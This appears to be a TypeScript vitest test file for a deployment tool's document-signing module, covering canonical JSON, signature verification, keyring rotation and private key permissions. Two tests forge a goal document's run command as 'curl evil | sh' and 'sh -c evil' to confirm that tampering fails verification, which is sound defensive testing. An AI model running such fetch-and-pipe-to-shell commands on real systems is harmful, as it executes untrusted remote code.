import crypto from 'node:crypto';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { isFleetcastError } from '../errors/index.ts';
import { canonicalJson, createSigningKeyFiles, generateSigningKey, readSigningKey, signDocument, verifyDocument, VerifyingKeyring } from './index.ts';

const dirs: string[] = [];
afterEach(() => {
  for (const dir of dirs.splice(0)) fs.rmSync(dir, { recursive: true, force: true });
});

function keyFiles(): { dir: string; privateFile: string; publicFile: string; publicKey: string } {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'fleetcast-trust-'));
  dirs.push(dir);
  const privateFile = path.join(dir, `k${dirs.length}.key`);
  const publicFile = path.join(dir, `k${dirs.length}.pub`);
  const { publicKey } = createSigningKeyFiles(privateFile, publicFile);
  return { dir, privateFile, publicFile, publicKey };
}

const goal = { v: 2, service: 'api', region: 'eu', build: 'b42', runCommand: './api', seq: 7 };

describe('canonicalJson', () => {
  it('gives the same bytes whatever order the keys were written in', () => {
    expect(canonicalJson({ b: 1, a: { d: [1, 'x'], c: null } })).toBe(canonicalJson({ a: { c: null, d: [1, 'x'] }, b: 1 }));
    expect(canonicalJson({ b: 1, a: 2 })).toBe('{"a":2,"b":1}');
  });

  it('refuses values JSON cannot carry', () => {
    expect(() => canonicalJson({ n: Number.NaN })).toThrow(TypeError);
  });
});

describe('signed documents', () => {
  it('verifies a signed document with the signer public key, in any key order', () => {
    const { privateFile, publicKey } = keyFiles();
    const key = readSigningKey(privateFile);
    const signed = signDocument(goal, key);
    const reordered = JSON.parse(JSON.stringify({ sig: signed.sig, seq: 7, runCommand: './api', build: 'b42', region: 'eu', service: 'api', v: 2 }));
    expect(verifyDocument(reordered, new VerifyingKeyring(publicKey))).toEqual({ ok: true, keyId: key.keyId });
  });

  it('refuses a document whose run command changed under the original signature', () => {
    const { privateFile, publicKey } = keyFiles();
    const signed = signDocument(goal, readSigningKey(privateFile));
    const forged = { ...signed, runCommand: 'curl evil | sh' };
    expect(verifyDocument(forged, new VerifyingKeyring(publicKey))).toMatchObject({ ok: false, problem: 'BAD_SIGNATURE' });
  });

  it('refuses an unsigned document, and one signed by a key nobody trusts', () => {
    const { publicKey } = keyFiles();
    const keyring = new VerifyingKeyring(publicKey);
    expect(verifyDocument(goal, keyring)).toEqual({ ok: false, problem: 'UNSIGNED' });
    const stranger = keyFiles();
    const signedByStranger = signDocument(goal, readSigningKey(stranger.privateFile));
    expect(verifyDocument(signedByStranger, keyring)).toMatchObject({ ok: false, problem: 'UNKNOWN_KEY' });
  });

  it('refuses a signature copied from another document', () => {
    const { privateFile, publicKey } = keyFiles();
    const key = readSigningKey(privateFile);
    const other = signDocument({ ...goal, build: 'b41' }, key);
    expect(verifyDocument({ ...goal, sig: other.sig }, new VerifyingKeyring(publicKey))).toMatchObject({ ok: false, problem: 'BAD_SIGNATURE' });
  });
});

describe('VerifyingKeyring', () => {
  it('trusts several keys, inline and from files, so a key can be rotated', () => {
    const a = keyFiles();
    const b = generateSigningKey();
    const keyring = new VerifyingKeyring(`${a.publicFile}, ${b.publicKey}`);
    expect(keyring.keyIds()).toHaveLength(2);
    expect(verifyDocument(signDocument(goal, readSigningKey(a.privateFile)), keyring).ok).toBe(true);
  });

  it('reads files of several keys: one-line keys and PEM blocks as openssl writes them, with comments', () => {
    const a = keyFiles();
    const b = keyFiles();
    const pem = crypto.createPublicKey(readSigningKey(b.privateFile).privateKey).export({ type: 'spki', format: 'pem' }).toString();
    fs.writeFileSync(a.publicFile, `# the current key\n${a.publicKey}\n# the next one, from openssl pkey -pubout\n${pem}`);
    const keyring = new VerifyingKeyring(a.publicFile);
    expect(keyring.keyIds().sort()).toEqual([readSigningKey(a.privateFile).keyId, readSigningKey(b.privateFile).keyId].sort());
    expect(verifyDocument(signDocument(goal, readSigningKey(b.privateFile)), keyring).ok).toBe(true);
  });

  it('picks up a rewritten key file without being created again', () => {
    const a = keyFiles();
    const b = keyFiles();
    let now = 0;
    const keyring = new VerifyingKeyring(a.publicFile, { now: () => now, recheckMs: 1_000 });
    const signedByB = signDocument(goal, readSigningKey(b.privateFile));
    expect(verifyDocument(signedByB, keyring).ok).toBe(false);
    fs.writeFileSync(a.publicFile, `# old and new during the rotation\n${a.publicKey}\n${b.publicKey}\n`);
    now += 1_000;
    expect(verifyDocument(signedByB, keyring).ok).toBe(true);
    fs.writeFileSync(a.publicFile, `${b.publicKey}\n`);
    now += 1_000;
    expect(verifyDocument(signDocument(goal, readSigningKey(a.privateFile)), keyring)).toMatchObject({ ok: false, problem: 'UNKNOWN_KEY' });
  });

  it('names the setting when an entry is neither a key nor a readable file', () => {
    try {
      new VerifyingKeyring('/nowhere/goal.pub');
      expect.unreachable();
    } catch (err) {
      expect(isFleetcastError(err, 'CONFIG_INVALID')).toBe(true);
      expect((err as Error).message).toContain('FLEETCAST_GOAL_PUBLIC_KEYS');
    }
  });

  it('keeps the private key file private and never overwrites it', () => {
    const a = keyFiles();
    expect(fs.statSync(a.privateFile).mode & 0o777).toBe(0o600);
    expect(() => createSigningKeyFiles(a.privateFile, a.publicFile)).toThrow();
  });
});

describe('remembered verifications', () => {
  it('a document verified before is not trusted for other content under the same signature, and a dropped key ends it', () => {
    const a = keyFiles();
    const keyring = new VerifyingKeyring(a.publicFile, { recheckMs: 0 });
    const signed = signDocument(goal, readSigningKey(a.privateFile));
    expect(verifyDocument(signed, keyring).ok).toBe(true);
    expect(verifyDocument(signed, keyring).ok).toBe(true);
    expect(verifyDocument({ ...signed, runCommand: 'sh -c evil' }, keyring)).toMatchObject({ ok: false, problem: 'BAD_SIGNATURE' });
    fs.writeFileSync(a.publicFile, `${generateSigningKey().publicKey}\n`);
    expect(verifyDocument(signed, keyring)).toMatchObject({ ok: false, problem: 'UNKNOWN_KEY' });
  });
});
